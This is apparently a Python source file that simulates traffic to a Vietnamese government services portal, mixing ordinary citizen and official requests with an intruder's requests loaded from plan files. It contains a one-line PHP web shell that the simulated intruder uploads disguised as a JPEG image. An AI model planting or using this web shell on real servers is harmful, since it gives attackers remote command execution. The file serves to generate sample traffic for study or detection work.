"""Who visits a portal: citizens and officials, and by which requests an intruder attacks it."""

from __future__ import annotations

import json
from pathlib import Path
from random import Random
from typing import TYPE_CHECKING
from urllib.parse import quote

if TYPE_CHECKING:
    import subprocess
    from collections.abc import Iterable

    from docs.samples.recording.machine import Machine

FILES = Path(__file__).resolve().parent / "files"
Request = dict[str, object]

PEOPLE = tuple(f"198.51.100.{last}" for last in (11, 14, 23, 37, 58, 76, 91, 102, 117, 140, 163, 188, 201, 219, 233))
OFFICIALS = ("10.49.8.21", "10.49.8.22", "10.49.8.35")
INTRUDER = "203.0.113.66"
SCANNER = "203.0.113.17"
KIT = "AppleWebKit/537.36 (KHTML, like Gecko)"
AGENTS = (
    f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {KIT} Chrome/142.0.0.0 Safari/537.36",
    f"Mozilla/5.0 (Linux; Android 14; SM-A155F) {KIT} Chrome/141.0.0.0 Mobile Safari/537.36",
    f"Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X) {KIT} Version/18.1 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64; rv:144.0) Gecko/20100101 Firefox/144.0",
    f"Mozilla/5.0 (Windows NT 10.0; Win64; x64) {KIT} Chrome/141.0.0.0 Safari/537.36 Edg/141.0.0.0",
)
WORDS = (
    "khai sinh",
    "đăng ký kết hôn",
    "cấp đổi căn cước",
    "xây dựng nhà ở",
    "đất đai",
    "hộ kinh doanh",
    "tạm trú",
    "lý lịch tư pháp",
)
PAGES = (
    "/",
    "/dich-vu-cong/thu-tuc/cap-giay-khai-sinh",
    "/dich-vu-cong/thu-tuc/dang-ky-thuong-tru?buoc=2",
    "/dich-vu-cong/ho-so/nop-truc-tuyen",
    "/dich-vu-cong/co-quan/xa-an-phu",
    "/tinh/portal.css",
    "/tinh/portal.js",
    "/tinh/quoc-huy.png",
    "/favicon.ico",
    "/dang-nhap",
)
FORM = {"Content-Type": "application/x-www-form-urlencoded"}
SHELL = "<?php @system($_REQUEST['lenh']); ?>"
UPLOAD = (
    '--ranh-gioi\r\nContent-Disposition: form-data; name="tep"; filename="{name}"\r\n'
    "Content-Type: {kind}\r\n\r\n{body}\r\n--ranh-gioi--\r\n"
)


def ordinary(host: str, count: int, seed: int, pause: float = 0.03) -> list[Request]:
    """Draw what citizens and officials ask for."""
    random = Random(seed)  # noqa: S311 - drawn for the same result every time
    return [{"host": host, "pause": round(random.random() * 2 * pause, 3), **visit(host, random)} for _ in range(count)]


def visit(host: str, random: Random) -> Request:
    """Draw one request: mostly a page, at times a search in Vietnamese, a login or an upload."""
    person = random.randrange(len(PEOPLE))
    who: Request = {"from": PEOPLE[person], "agent": AGENTS[person % len(AGENTS)], "method": "GET"}
    headers = {"Referer": f"http://{host}{random.choice(PAGES[:5])}"} if random.random() < 0.6 else {}  # noqa: PLR2004
    kind = random.random()
    if kind < 0.2:  # noqa: PLR2004 - a fifth search
        word = random.choice(WORDS)
        path = f"/dich-vu-cong/tim-kiem?tu-khoa={quote(word)}&trang={random.randint(1, 4)}"
        return {**who, "path": path, "headers": headers}
    if kind < 0.3:  # noqa: PLR2004
        return {**who, "path": f"/tra-cuu?ma=H49-000{random.randint(1, 4)}", "headers": headers}
    if kind < 0.36:  # noqa: PLR2004
        right = "dung" if random.random() < 0.8 else "nham"  # noqa: PLR2004 - one in five mistypes
        body = f"ten=0{random.randint(10**8, 10**9 - 1)}&mat_khau={right}"
        return {**who, "method": "POST", "path": "/dang-nhap", "headers": {**headers, **FORM}, "body": body}
    if kind < 0.4:  # noqa: PLR2004
        name = random.choice(("don-de-nghi.pdf", "giay-chung-sinh.jpg", "so-ho-khau.pdf"))
        return {**who, **upload(name, "application/pdf", "%PDF-1.7 " + "x" * random.randint(500, 4000))}
    return {**who, "path": random.choice(PAGES), "headers": headers}


def upload(name: str, kind: str, body: str) -> Request:
    """Give the request that uploads a file."""
    return {
        "method": "POST",
        "path": "/tai-len",
        "headers": {"Content-Type": "multipart/form-data; boundary=ranh-gioi"},
        "body": UPLOAD.format(name=name, kind=kind, body=body),
    }


def read_plan(name: str, host: str) -> list[Request]:
    """Read an intruder's requests from a file beside this one: a path, or an object with more than that."""
    lines = (FILES / name).read_text(encoding="utf-8").splitlines()
    return [attack(line, host) for line in lines if line and not line.startswith("#")]


def attack(line: str, host: str) -> Request:
    """Give one request of an intruder."""
    extra: Request = json.loads(line) if line.startswith("{") else {"path": line}
    if "upload" in extra:
        extra = {**upload(str(extra.pop("upload")), "image/jpeg", SHELL), **extra}
    return {"host": host, "from": INTRUDER, "agent": "curl/8.5.0", "method": "GET", "pause": 0.05, **extra}


def send(machine: Machine, requests: Iterable[Request]) -> None:
    """Send requests from a machine, to their end."""
    machine.run(loaded(machine, requests))


def send_beside(machine: Machine, requests: Iterable[Request]) -> subprocess.Popen[bytes]:
    """Send requests from a machine while something else goes on."""
    return machine.start(loaded(machine, requests))


def loaded(machine: Machine, requests: Iterable[Request]) -> str:
    """Put the client and its plan on a machine and give the command that sends."""
    machine.write("/tmp/client.py", (FILES / "client.py").read_text(encoding="utf-8"))  # noqa: S108 - the machine's
    machine.write("/tmp/plan", "".join(json.dumps(one) + "\n" for one in requests))  # noqa: S108 - the machine's
    return "exec /usr/bin/python3 /tmp/client.py < /tmp/plan"
